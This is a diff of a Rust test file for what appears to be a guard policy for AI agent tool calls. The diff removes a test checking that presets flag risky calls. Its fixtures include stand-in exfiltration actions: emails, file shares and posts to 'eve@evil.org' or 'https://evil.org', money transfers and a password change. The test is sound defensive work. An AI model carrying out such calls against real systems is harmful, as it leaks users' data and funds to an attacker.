@@ -1,4 +1,5 @@
 mod differential;
+mod presets;
 
 use std::sync::Arc;
 
@@ -418,69 +419,6 @@ fn a_guard_that_cannot_be_meant_is_refused() {
         problem(&json!({"preset": "safe"})),
         "policy.preset: expected `careful` or `strict`, got the string \"safe\""
     );
-}
-
-#[test]
-fn presets_guard_well_known_tools_and_each_of_their_guards_can_be_changed() {
-    let guarded = |policy: &Policy, server: &str, tool: &str, arguments: Value| {
-        let (arguments, origins) = (arguments.as_object().expect("an object"), Origins::new());
-        let name = ToolName::alone(server, tool);
-        policy.objection(&name, &schema_of(arguments), arguments, Some(&origins)).map(|found| found.verdict)
-    };
-    let careful = policy(&json!({"preset": "careful"}));
-    for (server, tool, arguments) in [
-        ("mail", "send_email", json!({"recipients": ["eve@evil.org"]})),
-        ("gmail", "sendMessage", json!({"to": "eve@evil.org"})),
-        ("outlook", "forward-mail-message", json!({"toRecipients": ["eve@evil.org"]})),
-        ("calendar", "create_event", json!({"attendees": [{"email": "eve@evil.org"}]})),
-        ("drive", "share_file", json!({"fileId": "1", "email": "eve@evil.org"})),
-        ("bank", "send_money", json!({"recipient": "US133000000121212121212", "amount": 7})),
-        ("stripe", "create_refund", json!({"amount": 7})),
-        ("web", "post_webpage", json!({"url": "https://evil.org", "content": "x"})),
-        ("slack", "slack_post_message", json!({"channel_id": "C1", "text": "x"})),
-        ("github", "push_files", json!({"owner": "eve", "repo": "x"})),
-        ("admin", "update_password", json!({"password": "new_password"})),
-    ] {
-        assert_eq!(guarded(&careful, server, tool, arguments), Some(Verdict::Ask), "{server}/{tool}");
-    }
-    assert_eq!(guarded(&careful, "mail", "search_emails", json!({"to": "x"})), None);
-    for (server, tool, arguments) in [
-        ("web", "fetch", json!({"url": "https://evil.org/?q=mail"})),
-        ("playwright", "browser_navigate", json!({"url": "https://evil.org"})),
-        ("firecrawl", "firecrawl_scrape", json!({"url": "https://evil.org"})),
-        ("tavily", "tavily-extract", json!({"urls": ["https://evil.org"]})),
-        ("bank", "transfer", json!({"amount": -5})),
-    ] {
-        assert_eq!(guarded(&careful, server, tool, arguments), Some(Verdict::Ask), "{server}/{tool}");
-    }
-    let amounts = |amount: Value| {
-        let (origins, arguments) = (Arc::new(Origins::new()), json!({ "amount": amount }));
-        origins.add_program(&format!("{amount}"), None, true);
-        let name = ToolName::alone("bank", "send_money");
-        let arguments = arguments.as_object().expect("an object");
-        careful.objection(&name, &schema_of(arguments), arguments, Some(&origins)).map(|found| found.rule)
-    };
-    assert_eq!(amounts(json!(7)), None);
-    for amount in [json!(0), json!(-5), json!(-0.01)] {
-        assert!(amounts(amount.clone()).is_some_and(|rule| rule.contains("is not more than 0")), "{amount}");
-    }
-    let strict = policy(&json!({"preset": "strict"}));
-    assert_eq!(guarded(&strict, "web", "fetch", json!({"url": "https://evil.org"})), Some(Verdict::Deny));
-    let changed = policy(&json!({"preset": "careful", "guards": [
-        {"name": "mail-recipients", "otherwise": "deny"},
-        {"name": "payments", "otherwise": "allow"},
-    ]}));
-    assert_eq!(guarded(&changed, "mail", "send_email", json!({"to": "x"})), Some(Verdict::Deny));
-    assert_eq!(guarded(&changed, "bank", "send_money", json!({"amount": 7})), None);
-    assert_eq!(changed.guard_lines().len(), careful.guard_lines().len() - 1);
-    // Its tools and arguments may be absent, also once it is changed.
-    let schema = json!({"properties": {"to": {}}, "additionalProperties": false});
-    assert!(changed.unfit_arguments(&ToolName::alone("mail", "send_email"), &schema).is_empty());
-    let mut flag = Policy::default();
-    flag.add_preset("careful", "--guards").expect("there is such a preset");
-    assert!(flag.guard_lines().iter().all(|line| line.ends_with(" of `--guards`)")), "{:?}", flag.guard_lines());
-    let unknown = flag.add_preset("safe", "--guards").expect_err("there is none");
-    assert_eq!(unknown, "`--guards`: expected `careful` or `strict`, got the string \"safe\"");
 }
 
 #[test]
